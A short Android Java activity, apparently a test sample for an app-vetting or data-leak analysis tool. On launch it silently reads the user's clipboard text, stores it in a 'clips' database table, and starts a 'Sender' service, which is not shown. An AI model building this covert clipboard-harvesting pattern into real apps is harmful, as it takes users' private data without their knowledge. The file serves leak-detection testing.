package org.apkvet.clip.kept_other_table;

import android.app.*;
import android.content.*;
import android.os.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        ContentValues values = new ContentValues();
        values.put("text", copied());
        new Store(this).getWritableDatabase().insert("clips", null, values);
        startService(new Intent(this, Sender.class));
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
